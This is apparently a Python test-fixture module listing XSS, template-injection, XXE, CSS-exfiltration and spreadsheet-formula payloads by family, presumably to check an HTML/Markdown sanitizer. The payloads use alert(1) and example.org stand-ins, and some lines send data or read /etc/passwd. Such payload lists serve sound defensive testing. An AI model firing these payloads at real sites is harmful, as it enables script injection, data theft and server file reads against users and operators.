"""What somebody may write to bring a script, a request or a formula into a site: one attack a line, by family.

Where one needs something to stand on, it finds it: `a.png` lies beside the briefings, `/themes/` is a page. So that
it is refused, if it is, for what it does and not because its picture is missing. `alert` is the tripwire, and ⏎ a new
line.
"""

from collections.abc import Mapping

_FAMILIES: Mapping[str, str] = {
    "handlers": r"""
<b onclick=alert(1)>x</b>
<b ONCLICK="alert(1)">x</b>
<b/onclick=alert(1)>x</b>
<b title="a"onclick="alert(1)">x</b>
<b x=">" onclick=alert(1)>x</b>
<b "onclick=alert(1)>x</b>
<b =onclick=alert(1)>x</b>
<i onmouseover=alert(1) style=position:fixed;inset:0>x</i>
<img src=a.png onload=alert(1) alt=x>
<img/src=a.png/onload=alert(1)/alt=x>
<img src=a.png alt=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<details open ontoggle=alert(1)><summary>x</summary>y</details>
<span onanimationstart=alert(1) style="animation:a 1s">x</span>
<a href="/themes/" onclick=alert(1)>x</a>
""",
    "addresses": r"""
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="&#x6a&#x61vascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="javascript://example.org/%0aalert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">x</a>
<a href="file:///etc/passwd">x</a>
<a href="intent:#Intent;end">x</a>
[x](javascript:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](java\script:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4)
[![x](a.png)](javascript:alert(1))
<javascript:alert(1)>
[x](https://example.org/"onclick=alert(1))
[x](https://example.org/ 'x" onclick=alert(1) y="')
![x" onerror=alert(1) y="](a.png)
![x](a.png '" onerror=alert(1) y="')
![x](javascript:alert(1))
[x][y]⏎⏎[y]: javascript:alert(1)
<a href="https://example.org/&quot; onclick=alert(1)">x</a>
https://example.org/"><b/onclick=alert(1)>
<q cite="javascript:alert(1)">x</q>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>
<a xlink:href="javascript:alert(1)">x</a>
<a ping="https://example.org/" href="/themes/">x</a>
<img alt=x src=a.png srcset="https://example.org/a.png 2x">
<img alt=x src=a.png longdesc="javascript:alert(1)" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">
<img alt=x src=a.png usemap=#m><map name=m><area href="javascript:alert(1)"></map>
""",
    "elements": r"""
<script>alert(1)</script>
<SCRIPT SRC=https://example.org/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=x></script>
<script type=module>import "https://example.org/x.js"</script>
<script type="application/ld+json">{"@type": "Thing"}</script>
</main></body><script>alert(1)</script>
</title><script>alert(1)</script>
<title><img src=a.png onerror=alert(1) alt=x></title>
<textarea><script>alert(1)</script>
<plaintext><script>alert(1)</script>
<noscript><p title="</noscript><img src=a.png onload=alert(1)>"></noscript>
<iframe src=https://example.org/></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<base href="https://example.org/">
<meta http-equiv=refresh content="0; url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<link rel=stylesheet href="https://example.org/a.css">
<link rel=preconnect href="https://example.org/">
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<select autofocus onfocus=alert(1)><option>x</select>
<video src=https://example.org/a.mp4 poster=https://example.org/a.png onerror=alert(1)></video>
<picture><source srcset="https://example.org/a.png"><img src=a.png alt=x></picture>
<template><script>alert(1)</script></template>
<div><template shadowrootmode=open><script>alert(1)</script></template></div>
<x-a is=script onclick=alert(1)>x</x-a>
<body onload=alert(1)>
""",
    "clobbering": r"""
<p id=_main>x</p>
<p id=neglect>x</p>
<a id=learnbrief name=take href="/themes/">x</a>
<form id=learnbrief><input name=take></form>
<img name=getElementById src=a.png alt=x>
<p class="point" data-audience=x id=_results>x</p>
""",
    "SVG": r"""
<svg onload=alert(1)></svg>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=9>x</text></a></svg>
<svg><set attributeName=onclick to=alert(1)></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg><style>*{background:url(https://example.org/)}</style></svg>
<svg><handler xmlns:e="http://www.w3.org/2001/xml-events" e:event=load>alert(1)</handler></svg>
""",
    "MathML": r"""
<math href="javascript:alert(1)"><mi>x</mi></math>
<math><mtext><img src=a.png onload=alert(1)></mtext></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><iframe src="javascript:alert(1)"></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><semantics><mglyph><style><img src=a.png onload=alert(1)></style></mglyph></semantics></math>
""",
    "CSS": r"""
<style>body{display:none}</style>
<style>input[value^=a]{background:url(https://example.org/a)}</style>
<style><!--</style><img src=a.png onload=alert(1) alt=x>
<b style="position:fixed;inset:0">x</b>
<b style="background:url(https://example.org/a)">x</b>
<b style="width:expression(alert(1))">x</b>
<td class="left notice skip" style="color:red">x</td>
<table><tr><td align="left&quot; onclick=alert(1)">x</td></tr></table>
<table><tr><td align="left" align="right" class="evil">x</td></tr></table>
""",
    "templates": r"""
{{ 7*7 }} is said
{{ site.title }} is said
{{ ''.__class__.__base__.__subclasses__() }} is said
{{ lipsum | attr("__globals__") }} is said
{{ "<b onclick=alert(1)>" | safe }} is said
{% raw %} is said
{% include "base.html" %} is said
{%- extends "page.html" -%} is said
{# a comment #} is said
}} {{ %} {% #} is said
${7*7} #{7*7} <%= 7*7 %> is said
{% endblock %}{% block main %} is said
constructor.constructor('alert(1)')() {{$on.constructor('alert(1)')()}} is said
""",
    "attribute lists": r"""
x {onclick=alert(1)}
x {#x onclick=alert(1)}
x {: onclick="alert(1)" }
x {#"><script>alert(1)</script>}
x {was="x onclick=alert(1)"}
x {audience="<script>"}
x {data-a=1 hidden}
x {:.skip}
x {id="" onclick=alert(1)}
x {{#x}} {onclick=alert(1)
x [y]{onclick=alert(1)} z
""",
    "break-outs": r"""
</script><script>alert(1)</script>
<!--<script>
--><script>alert(1)</script>
"}]}</script><script>alert(1)</script>
","url":"javascript:alert(1)","x":"
\u003c/script\u003e\u003cscript\u003ealert(1)\u003c/script\u003e
'-alert(1)-'
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
</summary><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
" onclick="alert(1)
"><img src=a.png onload=alert(1) alt=x>
<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>
＜script＞alert(1)＜/script＞
x#" onclick="alert(1)
""",
    "formulas": r"""
=1+1
=cmd|'/c calc'!A1
=HYPERLINK("https://example.org/?"&A1, "x")
=IMPORTXML("https://example.org/", "//a")
+1+1
@SUM(1+1)*cmd|'/c calc'!A1
%0A=1+1
",=1+1,"
＝1+1
""",
    "mutation": r"""
<noscript><p title="</noscript><b onclick=alert(1)>">
<math><mtext><table><mglyph><style><math><img src=a.png onload=alert(1)>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img onload=alert(1)>"></style></h1>
<svg><desc><svg><image><a><desc><svg><image></image></a></desc><style><a title="</style><img onload=alert(1)>">
<select><template><style><!--</style><a rel="--></style></template></select><img src=a.png onload=alert(1)>">
<p><a><p><a></a><b onclick=alert(1)>x
<b><p><i></b></i onclick=alert(1)>x</p>
<img alt="`><b onclick=alert(1)>" src=a.png>
<listing>&lt;img src=a.png onload=alert(1)&gt;</listing>
<pre>⏎⏎<b onclick=alert(1)>x</b></pre>
<div>⏎⏎<b onclick=alert(1)>x</b>⏎⏎</div onclick=alert(1)>
<a href="java⏎script:alert(1)">x</a>
[x](<java⏎script:alert(1)>)
<!--><b onclick=alert(1)>x-->
<!-- --!><b onclick=alert(1)>x-->
<?xml><b onclick=alert(1)>x?>
<b <i onclick=alert(1)>x
<b/ /onclick=alert(1) /x>x
<b onclick⏎=alert(1)>x</b>
<abbr title="&lt;/abbr&gt;&lt;b onclick=alert(1)&gt;">x</abbr>
<abbr title="&#xFDD0;1&#xFDD0; onclick=alert(1)">x</abbr>
**<b onclick=alert(1)>**x
*a <b title="*" onclick=alert(1)>x</b>
[a <b onclick=alert(1)>](https://example.org/ "b </b>")
[label]: <javascript:alert(1)> "y"
<details open="" open=alert(1) ontoggle=alert(1)>x</details>
""",
}

PAYLOADS: Mapping[str, tuple[str, ...]] = {
    name: tuple(line.replace("⏎", "\n") for line in lines.split("\n") if line) for name, lines in _FAMILIES.items()
}
"""By family."""

EVERY = tuple(dict.fromkeys(payload for family in PAYLOADS.values() for payload in family))
"""All of them, each once."""
